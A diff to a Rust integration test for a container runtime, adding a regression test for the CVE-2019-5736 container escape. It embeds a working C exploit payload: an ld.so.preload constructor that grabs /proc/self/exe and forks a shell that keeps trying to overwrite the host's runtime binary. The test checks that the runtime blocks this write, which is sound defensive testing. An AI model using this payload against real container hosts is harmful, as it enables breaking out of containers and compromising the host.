@@ -1,5 +1,9 @@
 // SPDX-License-Identifier: MIT OR Apache-2.0
 //! `runtime = "lxc"`: is a container of LXC's a unit like all others, with the monitor as its main process?
+#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]
+
+use std::path::PathBuf;
+use std::process::Command;
 
 use ct_tests::{Machine, on_every_machine};
 
@@ -25,6 +29,46 @@ fn init_of(machine: &Machine, unit: &str) -> u64 {
         .trim()
         .parse()
         .unwrap_or_else(|_| panic!("{unit}: the monitor {monitor} has the children {children:?}"))
+}
+
+/// Loaded by a program of the host's that is executed with the container's libraries: keeps a descriptor of it, and leaves
+/// a shell behind that writes there as soon as nobody executes it any longer.
+const INTRUDER: &str = r#"
+#include <fcntl.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+__attribute__((constructor)) static void intrude(void) {
+    char program[256] = "";
+    if (readlink("/proc/self/exe", program, sizeof program - 1) < 0 || !strstr(program, "ct-lxc"))
+        return;
+    dup2(open("/proc/self/exe", O_RDONLY), 9);
+    setenv("PROGRAM", program, 1);
+    if (fork() == 0) {
+        setsid();
+        execl("/bin/sh", "sh", "-c", "echo $PROGRAM >/n/seen;"
+            "until (echo OWNED >>/proc/self/fd/9) 2>/n/why; do grep -q busy /n/why || exec touch /n/end; sleep 0.02; done;"
+            "touch /n/written /n/end", NULL);
+    }
+    if (getpid() == 1)
+        pause();
+    _exit(0);
+}
+"#;
+
+/// A library of C's.
+fn library(source: &str) -> Vec<u8> {
+    let directory = PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
+        .join(format!("intruder-{:?}", std::thread::current().id()));
+    std::fs::create_dir_all(&directory).unwrap();
+    let (code, library) = (directory.join("intruder.c"), directory.join("intruder.so"));
+    std::fs::write(&code, source).unwrap();
+    let built =
+        Command::new("cc").args(["-shared", "-fPIC", "-o"]).arg(&library).arg(&code).status().unwrap();
+    assert!(built.success(), "cc: {built}");
+    let read = std::fs::read(&library).unwrap();
+    std::fs::remove_dir_all(&directory).unwrap();
+    read
 }
 
 on_every_machine! {
@@ -195,5 +239,42 @@ echo x >/proc/sys/kernel/hostname && echo /proc is writable; mkdir /sys/fs/cgrou
             };
             assert_eq!((count(two), count(1)), ("1\n".to_owned(), "2\n".to_owned()), "{kind}");
         }
+    }
+
+    /// CVE-2019-5736: a command that is the program which enters the container, over again with the container's libraries.
+    fn nothing_inside_writes_to_a_program_of_the_hosts(machine: &Machine) {
+        prepare(machine);
+        machine.write_file("/srv/rootfs/intruder.so", 0o755, library(INTRUDER));
+        machine.write_file("/srv/rootfs/etc/ld.so.preload", 0o644, "/intruder.so\n");
+        machine.write_file("/srv/rootfs/again", 0o755, "#!/proc/self/exe\n");
+        let libraries = "cd /srv/rootfs && mkdir -p lib64 lib/x86_64-linux-gnu /srv/n && chmod 777 /srv/n
+cp -L /lib64/ld-linux-x86-64.so.2 lib64/
+ldd /usr/libexec/ct/ct-lxc | awk '/=>/ { print $3 }' | xargs -I{} cp -L {} lib/x86_64-linux-gnu/";
+        machine.shell(libraries).succeeds();
+        let mount = "[[mount]]\nsource = \"/srv/n\"\ntarget = \"/n\"\n";
+        machine.container("web", &format!("{}{mount}", container(IDLE, "")));
+        machine.daemon_reload();
+        machine.start("ct@web");
+        // As an upgrade of ct replaces it, so that the monitor no longer executes that very file.
+        machine.shell("cd /usr/libexec/ct && cp -p ct-lxc new && mv new ct-lxc").succeeds();
+        let digest = || machine.shell("sha256sum /usr/libexec/ct/*").succeeds().stdout;
+        let before = digest();
+        machine.run(["ctctl", "exec", "web", "--", "/again"]).succeeds();
+        machine.wait_until("test -e /srv/n/end");
+        assert_eq!(digest(), before, "{}", machine.read_file("/srv/n/seen"));
+        machine.shell("! test -e /srv/n/written").succeeds();
+        assert_eq!(machine.read_file("/srv/n/seen"), "/memfd:ct-lxc (deleted)\n");
+        let why = machine.read_file("/srv/n/why");
+        assert!(why.contains("Operation not permitted"), "{why}");
+
+        // The monitor, and init before it became the command, are such a copy too.
+        machine.shell("rm /srv/n/*").succeeds();
+        machine.container("first", &format!("{}{mount}", container(IDLE, "")).replace("\"/bin/sh\"", "\"/again\""));
+        machine.daemon_reload();
+        machine.try_start("ct@first");
+        machine.wait_until("test -e /srv/n/seen");
+        assert_eq!(machine.read_file("/srv/n/seen"), "/memfd:ct-lxc (deleted)\n");
+        assert_eq!(digest(), before);
+        machine.shell("systemctl kill --signal=KILL ct@first").succeeds();
     }
 }
